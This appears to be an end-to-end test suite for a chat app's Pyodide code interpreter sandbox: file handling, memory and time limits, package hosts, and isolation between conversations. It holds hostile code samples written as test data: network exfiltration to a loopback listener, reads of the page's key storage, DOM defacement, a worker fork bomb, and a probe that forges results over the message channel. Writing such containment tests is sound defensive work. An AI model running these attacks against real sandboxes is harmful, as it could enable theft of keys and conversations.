"""The code interpreter (issue #21) in real Chromium: the model's `python` calls run in a sandbox of their own
(an opaque-origin frame, a worker, Pyodide from the site), with the conversation's files under /mnt/data, a
notebook's variables kept between calls, files it writes offered back; and what a hostile or runaway piece
of code tries is contained, each case counted."""

from __future__ import annotations

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from journeys import REPLY_TIMEOUT_MS, choose_file, configure, last_reply, open_app, open_settings, send, wait_idle
from playwright.sync_api import Browser, Page, expect
from vendor_replay import VendorReplay, with_text, with_tool_call

pytestmark = pytest.mark.e2e

DOCUMENTS = Path(__file__).resolve().parents[1] / "fixtures" / "documents"
KEY = "sk-interpreter-test-0b1c2d3e4f"
TOOL_TURN, TEXT_TURN = "openai/chat-stream-tool-call", "openai/chat-stream-text-usage"
SSE = "text/event-stream; charset=utf-8"
START_MS = 120_000  # the sandbox's first start loads Pyodide a second time (from the HTTP cache)


def script_code(vendor: VendorReplay, *codes: str, answer: str = "Done.") -> None:
    """The model calls `python` once per code, then answers."""
    for i, code in enumerate(codes):
        vendor.script_body(f"python {i}", with_tool_call(TOOL_TURN, "python", {"code": code}, f"call_py{i}"),
                           content_type=SSE)
    vendor.script_body("answer", with_text(TEXT_TURN, answer), content_type=SSE)


def analyst(page: Page, vendor: VendorReplay) -> None:
    configure(page, vendor="openai", base=vendor.url, key=KEY, model="gpt-4o-mini")
    page.get_by_label("Assistant", exact=True).select_option(label="Data analyst")


def results(vendor: VendorReplay) -> list[str]:
    """What the model was told each `python` call gave, in order."""
    last = vendor.model_requests[-1].json["messages"]
    return [m["content"] if isinstance(m["content"], str) else "".join(c.get("text", "") for c in m["content"])
            for m in last if m["role"] == "tool"]


def cards(page: Page):
    return page.locator(".tool-card")


def test_the_model_computes_from_an_attached_csv_and_the_notebook_keeps_its_variables(
        browser: Browser, site_url: str, vendor: VendorReplay):
    code = ("import csv\n"
            "rows = list(csv.DictReader(open('/mnt/data/sales.csv')))\n"
            "best = max(rows, key=lambda r: int(r['units']))\n"
            "print(best['city'], best['units'])\n"
            "with open('/mnt/outputs/summary.csv', 'w') as f:\n"
            "    f.write('city,units\\n' + best['city'] + ',' + best['units'] + '\\n')\n"
            "len(rows)")
    script_code(vendor, code, "best['city'].upper()", answer="Sapporo sold most.")
    page = open_app(browser, site_url)
    analyst(page, vendor)
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Attach", exact=True).click()
    chooser.value.set_files(str(DOCUMENTS / "sales.csv"))
    expect(page.locator("#attachments .attachment.document")).to_have_count(1)
    send(page, "Which city sold most?")
    wait_idle(page, timeout=START_MS)

    first = vendor.model_requests[0].json
    tool, artifact = first["tools"]  # the code interpreter, and the artifact panel's tool (web/artifacts/)
    assert artifact["function"]["name"] == "artifact"
    assert tool["function"]["name"] == "python" and tool["function"]["parameters"]["required"] == ["code"]
    told = results(vendor)
    assert told[0].startswith("stdout:\nSapporo 2030\n") and "value:\n3" in told[0]
    assert "files written:\n/mnt/outputs/summary.csv" in told[0]
    assert told[1].startswith("value:\n'SAPPORO'")  # the second call saw the first one's variables
    # The file it wrote is offered under the reply, without opening any card (issue 29 item 6)...
    under = last_reply(page).locator(".reply-files")
    expect(under.get_by_role("link", name="Download summary.csv (24 B)")).to_be_visible()
    # ...and the card shows the code highlighted, what it printed, and the file as a download too.
    card = cards(page).first
    card.locator("summary").click()
    expect(card.locator(".tool-code .hljs-keyword").first).to_have_text("import")
    expect(card.locator(".tool-result")).to_contain_text("Sapporo 2030")
    link = card.get_by_role("link", name="Download summary.csv (24 B)")
    with page.expect_download() as download:
        link.click()
    assert Path(download.value.path()).read_text() == "city,units\nSapporo,2030\n"
    # The sandbox is a frame of an opaque origin, apart from the page and the core's worker.
    frame = page.locator("iframe.interpreter-sandbox")
    assert frame.get_attribute("sandbox") == "allow-scripts"
    assert KEY not in (frame.get_attribute("srcdoc") or "")
    # After a reload the file is still offered: kept with the transcript, its bytes in OPFS.
    page.reload()
    page.get_by_role("button", name="Which city sold most?", exact=True).click()
    under = last_reply(page).locator(".reply-files")
    expect(under.get_by_role("link", name="Download summary.csv (24 B)")).to_be_visible()
    card = cards(page).first
    card.locator("summary").click()
    expect(card.get_by_role("link", name="Download summary.csv (24 B)")).to_be_visible()
    page.context.close()


# A 1x1 PNG, and an SVG with a script in it (drawn as a picture, an SVG runs nothing).
DOT_PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
CHART_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="red"/>'
             '<script>parent.parent.drawn = "script ran"</script></svg>')


def test_pictures_the_code_writes_show_inline_and_reach_a_vision_model(browser: Browser, site_url: str,
                                                                         vendor: VendorReplay):
    code = ("import base64\n"
            f"open('/mnt/outputs/dot.png', 'wb').write(base64.b64decode('{DOT_PNG}'))\n"
            f"open('/mnt/outputs/chart.svg', 'w').write({CHART_SVG!r})\n")
    script_code(vendor, code, answer="Drawn.")
    page = open_app(browser, site_url)
    analyst(page, vendor)
    send(page, "Draw something.")
    wait_idle(page, timeout=START_MS)
    card = cards(page).first
    card.locator("summary").click()
    # The PNG as written, and a PNG drawn from the SVG (40 x 20); the SVG itself is a download.
    pictures = card.locator(".tool-result img")
    expect(pictures).to_have_count(2)
    sizes = pictures.evaluate_all("(imgs) => imgs.map((i) => [i.naturalWidth, i.naturalHeight])")
    assert sorted(sizes) == [[1, 1], [40, 20]]
    expect(card.get_by_role("link", name=re.compile(r"^Download chart\.svg"))).to_be_visible()
    assert page.evaluate("window.drawn ?? null") is None
    # Both went back to the model as images, beside the tool's text result.
    images = [c["image_url"]["url"] for m in vendor.model_requests[-1].json["messages"] if m["role"] == "user"
              and isinstance(m["content"], list) for c in m["content"] if c["type"] == "image_url"]
    assert len(images) == 2 and all(url.startswith("data:image/png;base64,") for url in images)
    assert "files written:\n/mnt/outputs/chart.svg\n/mnt/outputs/dot.png\n" in results(vendor)[0]
    page.context.close()


class LoopbackServer:
    """A loopback HTTP server on a free port that records every path asked of it; ``answer(path)`` gives
    (status, content type, body), sent with CORS open as a public host would."""

    def __init__(self) -> None:
        hits: list[str] = []
        answer = self.answer

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:  # noqa: N802 - the http.server interface
                hits.append(self.path)
                status, kind, body = answer(self.path)
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

        self.hits = hits
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def answer(self, path: str) -> tuple[int, str, bytes]:
        return 200, "text/plain", b""

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class Listener(LoopbackServer):
    """A host the sandbox must never reach: it counts every request it gets."""


# Cases of the kind SECURITY.md lists, for the new surface: T-I1 the network (fetch, pyodide.http, XHR,
# WebSocket), T-I2 a script from a foreign host, T-I3 the page's storage and database (the keys, the
# conversations), T-I4 the page's DOM, T-I5 a fork bomb of workers; T-I6 a runaway loop and T-I7 a huge
# allocation are the tests after this one; T-I8, the user's own Python tools beside the keys (in the core's
# worker), is the last test of this file.
HOSTILE = {
    "fetch a foreign host": "import js\nawait js.fetch('{url}/fetch')",
    "pyodide's own fetch": "from pyodide.http import pyfetch\nawait pyfetch('{url}/pyfetch')",
    "XMLHttpRequest": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', '{url}/xhr', False)\nx.send()",
    "a WebSocket": "import js\njs.WebSocket.new('ws://127.0.0.1:1/ws')",
    "import a foreign script": "import js\nawait js.eval('import(\"{url}/import.js\")')",
    "read the page's storage": "import js\njs.localStorage.getItem('orizuru.profile')",
    "open the page's database": "import js\njs.indexedDB.open('orizuru')",
    "touch the page's DOM": "import js\njs.parent.document.title = 'pwned'",
    "a fork bomb of workers": "import js\nfor _ in range(50):\n    js.Worker.new('data:text/javascript,while(1){}')",
}


def test_hostile_code_is_contained_and_each_case_is_counted(browser: Browser, site_url: str,
                                                            vendor: VendorReplay):
    listener = Listener()
    try:
        codes = [code.replace("{url}", listener.url) for code in HOSTILE.values()]
        script_code(vendor, *codes)  # nine calls and the answer: the loop's default of ten steps
        page = open_app(browser, site_url)
        analyst(page, vendor)
        send(page, "Try to get out.")
        wait_idle(page, timeout=START_MS)
        told = results(vendor)
        contained = {name: "error:" in result for name, result in zip(HOSTILE, told, strict=True)}
        print(f"\ncontained {sum(contained.values())}/{len(contained)}: " + json.dumps(contained))
        assert all(contained.values()), json.dumps(dict(zip(HOSTILE, told, strict=False)), indent=1)
        assert listener.hits == []  # nothing reached the network
        assert page.title() == "Orizuru" and page.evaluate("1 + 1") == 2  # the page is untouched and responsive
        assert page.evaluate("document.querySelectorAll('iframe').length") == 1
    finally:
        listener.close()


def test_a_runaway_loop_stops_at_the_limit_and_stop_works_mid_run(browser: Browser, site_url: str,
                                                                  vendor: VendorReplay):
    script_code(vendor, "x = 1", "while True:\n    pass", "x", answer="It ran too long.")
    context = browser.new_context()
    context.add_init_script("localStorage.setItem('orizuru.interpreterTimeout', '3')")
    page = open_app(browser, site_url, context=context)
    analyst(page, vendor)
    send(page, "Loop forever.")
    wait_idle(page, timeout=START_MS)
    limit, after = results(vendor)[1:]
    assert "ran past the 3 s limit and was stopped" in limit and "variables are gone" in limit
    assert "NameError" in after  # a fresh sandbox: x went with the old one, as the result said
    assert page.evaluate("1 + 1") == 2

    # Stop mid-run: the loop ends at once and the turn stops.
    page.evaluate("localStorage.setItem('orizuru.interpreterTimeout', '600')")
    script_code(vendor, "while True:\n    pass", answer="unused")
    send(page, "Loop again.")
    running = cards(page).last
    expect(running).to_have_attribute("data-status", "running", timeout=START_MS)
    page.get_by_role("button", name="Stop", exact=True).click()
    expect(page.get_by_role("button", name="Send", exact=True)).to_be_visible(timeout=REPLY_TIMEOUT_MS)
    assert page.evaluate("document.querySelectorAll('iframe.interpreter-sandbox').length") == 0
    context.close()


def test_a_huge_allocation_is_contained_and_the_interpreter_recovers(browser: Browser, site_url: str,
                                                                     vendor: VendorReplay):
    script_code(vendor, "big = bytearray(2 * 1024 ** 3)\nlen(big)", "big = [0] * (400 * 1024 ** 2)\nlen(big)",
                "1 + 1", answer="ok")
    page = open_app(browser, site_url)
    analyst(page, vendor)
    send(page, "Allocate 2 GB.")
    wait_idle(page, timeout=START_MS)
    exact, pointers, after = results(vendor)
    # 2 GiB does not fit a 32-bit index; 400 Mi pointers (1.6 GB) fit, past the ceiling: the sandbox is renewed.
    assert "OverflowError" in exact
    assert "used 1.6 GB of memory (the ceiling is 1.5 GB), so it was restarted" in pointers
    assert after.startswith("value:\n2")
    assert page.evaluate("1 + 1") == 2


def test_reset_notebook_clears_the_chats_variables(browser: Browser, site_url: str, vendor: VendorReplay):
    script_code(vendor, "x = 41", "x + 1", answer="42")
    page = open_app(browser, site_url)
    analyst(page, vendor)
    send(page, "Keep x.")
    wait_idle(page, timeout=START_MS)
    assert results(vendor)[-1].startswith("value:\n42")
    page.get_by_role("button", name="Chat settings", exact=True).click()
    page.get_by_role("button", name="Reset notebook", exact=True).click()
    expect(page.get_by_text("The notebook of this chat starts again")).to_be_visible()
    script_code(vendor, "x", answer="gone")
    send(page, "And now?")
    wait_idle(page, timeout=START_MS)
    assert "NameError: name 'x' is not defined" in results(vendor)[-1]


ROOT = Path(__file__).resolve().parents[2]


class PackageIndex(LoopbackServer):
    """A loopback package index (the simple JSON API, PEP 691) serving one real pinned wheel."""

    def __init__(self, name: str) -> None:
        [entry] = [e for e in json.loads((ROOT / "web" / "pyodide-wheels.lock.json").read_text())["packages"]
                   if e["name"] == name]
        wheel = ROOT / ".cache" / "downloads" / entry["file"]  # fetched by `build.py test` (the Pyodide suite's)
        assert wheel.is_file(), f"{wheel} is missing: run `python3 build.py test`, which fetches it"
        self.name, self.entry, self.wheel = name, entry, wheel.read_bytes()
        super().__init__()

    def answer(self, path: str) -> tuple[int, str, bytes]:
        if path.rstrip("/") == f"/simple/{self.name}":
            files = [{"filename": self.entry["file"], "url": f"{self.url}/files/{self.entry['file']}",
                      "hashes": {"sha256": self.entry["sha256"]}}]
            page = {"meta": {"api-version": "1.1"}, "name": self.name, "files": files}
            return 200, "application/vnd.pypi.simple.v1+json", json.dumps(page).encode()
        if path == f"/files/{self.entry['file']}":
            return 200, "application/octet-stream", self.wheel
        return 404, "text/plain", b"not found"


def test_packages_install_only_from_the_hosts_the_user_turned_on(browser: Browser, site_url: str,
                                                                 vendor: VendorReplay):
    index = PackageIndex("iniconfig")
    other = Listener()
    install = "import micropip\nawait micropip.install('iniconfig')\nimport iniconfig\niniconfig.__name__"
    try:
        # Off by default: no host, so the install fails, and the index hears nothing.
        script_code(vendor, install, answer="no")
        page = open_app(browser, site_url)
        analyst(page, vendor)
        send(page, "Install iniconfig.")
        wait_idle(page, timeout=START_MS)
        assert "error:" in results(vendor)[-1] and index.hits == []
        assert "no package install" in vendor.model_requests[0].json["tools"][0]["function"]["description"]

        # Turned on in Settings: the host is listed before any request, then the install works from it.
        dialog = open_settings(page)
        dialog.get_by_label("Package indexes (one URL per line)").fill(index.url + "/simple")
        dialog.get_by_role("button", name="Save package hosts").click()
        expect(dialog.locator("#package-hosts-list")).to_have_text(
            f"The code interpreter may send requests to: {index.url}")
        assert index.hits == []
        dialog.get_by_role("button", name="Close").click()
        script_code(vendor, install, f"import js\nawait js.fetch('{other.url}/leak')", answer="yes")
        send(page, "Again.")
        wait_idle(page, timeout=START_MS)
        installed, elsewhere = results(vendor)[-2:]
        assert installed.startswith("value:\n'iniconfig'"), installed
        assert "error:" in elsewhere and other.hits == []  # a host the user did not add stays out of reach
        assert index.hits == ["/simple/iniconfig/", "/files/iniconfig-2.3.1-py3-none-any.whl"]
        assert "micropip.install" in vendor.model_requests[-1].json["tools"][0]["function"]["description"]
    finally:
        index.close()
        other.close()


class PyodideRepository(PackageIndex):
    """A loopback Pyodide package repository (a Pyodide release's packages folder: its pyodide-lock.json and the
    files it lists) holding one real pinned wheel, for this site's Pyodide (``info`` as its own lock's) unless told
    otherwise. ``sha256`` replaces the wheel's in the lock (a repository that serves other bytes than it lists)."""

    def __init__(self, name: str, *, python: str | None = None, sha256: str | None = None) -> None:
        super().__init__(name)
        info = json.loads((ROOT / "node_modules" / "pyodide" / "pyodide-lock.json").read_text())["info"]
        package = {"name": name, "version": self.entry["version"], "file_name": self.entry["file"],
                   "install_dir": "site", "sha256": sha256 or self.entry["sha256"], "package_type": "package",
                   "imports": [name], "depends": []}
        self.lock = {"info": {**info, **({"python": python} if python else {})}, "packages": {name: package}}

    def answer(self, path: str) -> tuple[int, str, bytes]:
        if path == "/pyodide/pyodide-lock.json":
            return 200, "application/json", json.dumps(self.lock).encode()
        if path == f"/pyodide/{self.entry['file']}":
            return 200, "application/octet-stream", self.wheel
        return 404, "text/plain", b"not found"


def use_pyodide_repository(page: Page, url: str) -> None:
    dialog = open_settings(page)
    dialog.get_by_label("Pyodide package repository").fill(url)
    dialog.get_by_role("button", name="Save package hosts").click()
    dialog.get_by_role("button", name="Close").click()


IMPORT = "import iniconfig\niniconfig.__name__"


def test_a_pyodide_repository_the_user_adds_serves_the_packages_code_imports(browser: Browser, site_url: str,
                                                                             vendor: VendorReplay):
    """#33: Pyodide's own packages (numpy, pandas, matplotlib) come from a repository the user adds; the code just
    imports them. Shown with a pure wheel (no Pyodide build of numpy can be had on this machine: see the README)."""
    repository = PyodideRepository("iniconfig")
    try:
        page = open_app(browser, site_url)
        analyst(page, vendor)
        use_pyodide_repository(page, repository.url + "/pyodide")  # no trailing "/": the folder all the same
        script_code(vendor, IMPORT, answer="Imported.")
        send(page, "Import iniconfig.")
        wait_idle(page, timeout=START_MS)
        assert results(vendor)[-1].startswith("value:\n'iniconfig'"), results(vendor)[-1]
        assert repository.hits == ["/pyodide/pyodide-lock.json", f"/pyodide/{repository.entry['file']}"]
        told = vendor.model_requests[-1].json["tools"][0]["function"]["description"]
        assert "load when the code imports them" in told
    finally:
        repository.close()


@pytest.mark.parametrize(("case", "said"), [
    ("for another Python", "is for Python 3.99.0 (Pyodide ABI"),
    ("other bytes than it lists", "is not the bytes its pyodide-lock.json lists"),
])
def test_a_repository_that_does_not_fit_is_refused_saying_why(browser: Browser, site_url: str, vendor: VendorReplay,
                                                              case: str, said: str):
    repository = (PyodideRepository("iniconfig", python="3.99.0") if case == "for another Python"
                  else PyodideRepository("iniconfig", sha256="0" * 64))
    try:
        page = open_app(browser, site_url)
        analyst(page, vendor)
        use_pyodide_repository(page, repository.url + "/pyodide/")
        script_code(vendor, IMPORT, answer="It failed.")
        send(page, "Import iniconfig.")
        wait_idle(page, timeout=START_MS)
        told = results(vendor)[-1]
        assert said in told and "value:\n'iniconfig'" not in told, told
        assert "ModuleNotFoundError" in told or "could not start" in told, told
    finally:
        repository.close()


USER_TOOLS = '''
import sys
import js

def where(probe: str) -> dict:
    """Where this tool runs."""
    return {"href": str(js.location.href), "core_here": "pycore.wire" in sys.modules,
            "fetch": hasattr(js, "fetch"), "probe": probe}

def spin(seconds: int) -> str:
    """Never ends."""
    while True:
        pass
'''


def save_python_tools(page: Page, source: str, status: str) -> None:
    """Tools → Python tools: type the source, save it, and wait for the tools it defines."""
    page.get_by_role("button", name="Tools", exact=True).click()
    tools = page.get_by_role("dialog", name="Tools")
    tools.get_by_role("textbox", name="Python source").fill(source)
    tools.get_by_role("button", name="Save Python tools").click()
    expect(tools.locator("#python-status")).to_have_text(status, timeout=START_MS)
    tools.get_by_role("button", name="Close").click()


def test_the_users_python_tools_run_in_the_sandbox_not_beside_the_keys(browser: Browser, site_url: str,
                                                                        vendor: VendorReplay):
    """Tools → Python tools: the functions are defined and run in the interpreter's sandbox (an opaque origin,
    no network, none of the core's modules or state), their arguments checked there, a runaway one stopped
    at the limit; after a reload they are offered at once and the sandbox starts only at their first call."""
    calls = [("where", {"probe": "x"}), ("where", {"probe": 5}), ("spin", {"seconds": 1})]
    for i, (tool, arguments) in enumerate(calls):
        vendor.script_body(f"call {i}", with_tool_call(TOOL_TURN, tool, arguments, f"call_t{i}"), content_type=SSE)
    vendor.script_body("answer", with_text(TEXT_TURN, "Done."), content_type=SSE)
    context = browser.new_context()
    context.add_init_script("localStorage.setItem('orizuru.interpreterTimeout', '5')")
    page = open_app(browser, site_url, context=context)
    configure(page, vendor="openai", base=vendor.url, key=KEY, model="gpt-4o-mini")
    save_python_tools(page, USER_TOOLS, "2 tool(s): where, spin")
    send(page, "Where do you run?")
    wait_idle(page, timeout=START_MS)

    offered = sorted(t["function"]["name"] for t in vendor.model_requests[0].json["tools"])
    assert offered == ["artifact", "spin", "where"]  # the artifact panel's tool beside the user's
    here, invalid, runaway = results(vendor)
    found = json.loads(here)
    # A worker of the sandboxed frame: an opaque origin's blob, no fetch, and not the core's Python.
    assert found["href"].startswith("blob:null/") and found == {**found, "core_here": False, "fetch": False,
                                                               "probe": "x"}
    assert "invalid arguments: probe: Input should be a valid string" in invalid  # pydantic, in the sandbox
    assert "ran past the 5 s limit and was stopped" in runaway
    assert KEY not in here
    assert page.evaluate("1 + 1") == 2

    # After a reload the tools are offered without starting the sandbox; the first call starts it.
    vendor.script_body("again", with_tool_call(TOOL_TURN, "where", {"probe": "y"}, "call_t9"), content_type=SSE)
    vendor.script_body("answer", with_text(TEXT_TURN, "Again."), content_type=SSE)
    page.reload()
    configure(page, vendor="openai", base=vendor.url, key=KEY, model="gpt-4o-mini")
    assert page.locator("iframe.interpreter-sandbox").count() == 0
    send(page, "And now?")
    wait_idle(page, timeout=START_MS)
    assert json.loads(results(vendor)[-1])["probe"] == "y"
    context.close()


# T-I9..T-I11: one conversation's code against another's notebook and the user's own tools. It looks for B's file
# and B's variables (walking the garbage collector) and for the tools' module, then tries to take the channel to
# the page over: the worker's message handler replaced, a second listener, and MessagePort's postMessage patched
# to catch the port when the host answers; each answers whatever it receives with a forged result.
PROBE = '''
import gc, json, os, sys, js
from pyodide.ffi import create_proxy, to_js
objects = gc.get_objects()
reached = {"B's file": os.listdir("/mnt/data"),
           "B's variable": any(isinstance(o, dict) and str(o.get("secret_b")).startswith("region,")
                               for o in objects),
           "the user's tools": "sandbox_py.tools" in sys.modules  # their host (sandbox_py/tools.py) and its sets
                               or any(type(o).__name__ == "ToolHost" for o in objects)}
FORGED = {"stdout": "FORGED-BY-MODEL-CODE", "is_error": False,
          "content": [{"type": "text", "text": "FORGED-BY-MODEL-CODE"}]}
def forge(event):
    answer = {"type": "result", "id": event.data.id, "result": FORGED}
    event.target.postMessage(to_js(answer, dict_converter=js.Object.fromEntries))
forged = create_proxy(forge)
original = js.MessagePort.prototype.postMessage
def catch_port(port, *args):
    port.onmessage = forged
    return original.call(port, *args)
attempts = {"self.onmessage": lambda: setattr(js.self, "onmessage", forged),
            "addEventListener": lambda: js.self.addEventListener("message", forged),
            "MessagePort.prototype": lambda: setattr(js.MessagePort.prototype, "postMessage",
                                                     create_proxy(catch_port, capture_this=True))}
for name, attempt in attempts.items():
    try:
        attempt()
    except Exception as e:
        reached[name] = type(e).__name__
print(json.dumps(reached))
'''
SECRET = "region,revenue\nnorth,B-SECRET-4711\n"


def test_a_conversations_code_reaches_no_other_notebook_nor_the_users_tools(
        browser: Browser, site_url: str, vendor: VendorReplay, tmp_path: Path):
    """Each conversation has a sandbox of its own and the user's Python tools another: code in A finds neither
    B's file nor B's variables nor the tools, and cannot take over the channel to the page, so its next run,
    B's notebook and the user's tool called from a third conversation all answer for themselves."""
    confidential = tmp_path / "confidential-B.csv"
    confidential.write_text(SECRET)
    page = open_app(browser, site_url)
    analyst(page, vendor)
    save_python_tools(page, "def add(a: int, b: int) -> int:\n    \"\"\"Add.\"\"\"\n    return a + b\n",
                      "1 tool(s): add")

    script_code(vendor, "secret_b = open('/mnt/data/confidential-B.csv').read()\nlen(secret_b)", answer="Kept.")
    choose_file(page, "Attach", confidential)
    send(page, "Keep B's figures.")
    wait_idle(page, timeout=START_MS)
    assert results(vendor)[-1].startswith("value:\n35")

    page.get_by_role("button", name="New chat").first.click()
    script_code(vendor, PROBE, "1 + 1", answer="Looked.")
    send(page, "Look around.")
    wait_idle(page, timeout=START_MS)
    probe, after = results(vendor)
    reached = json.loads(probe.split("stdout:\n", 1)[1].split("\n", 1)[0])
    print(f"\nconversation A reached: {reached}")

    page.get_by_role("button", name="New chat").first.click()
    vendor.script_body("add", with_tool_call(TOOL_TURN, "add", {"a": 2, "b": 3}, "call_add"), content_type=SSE)
    vendor.script_body("answer", with_text(TEXT_TURN, "5."), content_type=SSE)
    send(page, "Add 2 and 3.")
    wait_idle(page, timeout=START_MS)
    [added] = results(vendor)

    page.get_by_role("button", name="Keep B's figures.", exact=True).click()
    script_code(vendor, "secret_b", answer="Still there.")
    send(page, "Still there?")
    wait_idle(page, timeout=START_MS)
    held = {"T-I9 B's file is not in A's /mnt/data": reached["B's file"] == [],
            "T-I9 B's variables are not in A's heap": reached["B's variable"] is False,
            "T-I10 the user's tools are not in A's heap": reached["the user's tools"] is False,
            "T-I11 A's next run is answered by its host": after.startswith("value:\n2"),
            "T-I11 the user's tool answers for itself": added == "5",
            "T-I9 B's notebook is B's": "B-SECRET-4711" in results(vendor)[-1]}
    assert all(held.values()), json.dumps({"held": held, "after": after, "added": added}, indent=1)
    page.context.close()


def keep_x_then_leave(browser: Browser, site_url: str, vendor: VendorReplay, pref: str, value: str) -> Page:
    """A chat whose notebook keeps x, then a new chat (the first one is left), with `pref` set in localStorage."""
    context = browser.new_context()
    context.add_init_script(f"localStorage.setItem('orizuru.{pref}', '{value}')")
    page = open_app(browser, site_url, context=context)
    analyst(page, vendor)
    script_code(vendor, "x = 41", answer="Kept.")
    send(page, "Keep x.")
    wait_idle(page, timeout=START_MS)
    page.get_by_role("button", name="New chat").first.click()
    return page


def back_to_x_says_restarted(page: Page, vendor: VendorReplay) -> None:
    """Back in the first chat: its next run starts a fresh notebook, and both the model and the user are told."""
    page.get_by_role("button", name="Keep x.", exact=True).click()
    script_code(vendor, "x + 1", answer="Gone.")
    send(page, "And x?")
    wait_idle(page, timeout=START_MS)
    told = results(vendor)[-1]
    assert "note:\nThe notebook was restarted before this run" in told, told
    assert "NameError: name 'x' is not defined" in told
    expect(page.get_by_text("The notebook of this chat was restarted")).to_be_visible()
    page.context.close()


def test_a_notebook_closed_for_room_says_so_at_its_next_run(browser: Browser, site_url: str, vendor: VendorReplay):
    """Past the number of notebooks kept up (here 1), starting one closes the least recently used."""
    page = keep_x_then_leave(browser, site_url, vendor, "interpreterNotebooks", "1")
    script_code(vendor, "y = 1", answer="Kept.")
    send(page, "Keep y.")
    wait_idle(page, timeout=START_MS)
    assert page.locator("iframe.interpreter-sandbox").count() == 1  # x's notebook made room for y's
    back_to_x_says_restarted(page, vendor)


def test_a_left_conversations_notebook_closes_and_says_so(browser: Browser, site_url: str, vendor: VendorReplay):
    """A conversation off screen for the time set (here 0.05 minutes) loses its notebook, and frees its memory."""
    page = keep_x_then_leave(browser, site_url, vendor, "interpreterLeftMinutes", "0.05")
    expect(page.locator("iframe.interpreter-sandbox")).to_have_count(0, timeout=REPLY_TIMEOUT_MS)
    back_to_x_says_restarted(page, vendor)
